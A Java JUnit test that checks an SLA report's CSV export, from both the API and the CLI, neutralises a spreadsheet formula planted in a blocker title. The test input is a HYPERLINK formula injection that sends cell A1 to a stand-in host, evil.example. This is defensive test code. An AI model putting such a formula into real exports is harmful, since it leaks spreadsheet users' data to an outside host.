package io.eteam.sla;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.TextNode;
import io.eteam.support.Cli;
import io.eteam.support.TestServer;
import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Issue 11, item 6: a VP's title cannot run as a formula when the chair opens the SLA report's
/// CSV in a spreadsheet.
class FormulaInjectionTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final Clock TUESDAY = Clock.fixed(Instant.parse("2026-03-10T12:30:00Z"), ZoneOffset.UTC);

    static TestServer server;
    static String vp;

    @TempDir
    Path home;

    @BeforeAll
    static void start() {
        server = TestServer.start(TUESDAY);
        vp = server.add("vp-music", "vp");
        var raised = server.http.post("/api/v1/blockers", vp, """
                {"title": %s, "kind": "blocked"}""".formatted(TextNode.valueOf(FORMULA).toString()));
        assertThat(raised.status()).as(raised.body()).isEqualTo(201);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void a_formula_title_comes_out_of_the_sla_csv_from_the_api_neutralised() throws IOException {
        var csv = server.http.get("/api/v1/reports/sla?week=2026-W11&format=csv", server.chairToken);

        assertThat(csv.status()).isEqualTo(200);
        assertNeutralised(csv.body());
    }

    @Test
    void a_formula_title_comes_out_of_report_sla_format_csv_neutralised() throws IOException {
        var run = new Cli(home).env("ETEAM_SERVER", server.url()).env("ETEAM_TOKEN", server.chairToken)
                .run("report", "sla", "--week", "2026-W11", "--format", "csv");

        assertThat(run.exit()).as(run.err()).isZero();
        assertNeutralised(run.out());
    }

    private static void assertNeutralised(String csv) throws IOException {
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",");
        try (var parser = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            var titles = parser.getRecords().stream().map(r -> r.get("title")).toList();
            assertThat(titles).containsExactly("'" + FORMULA);
        }
    }
}
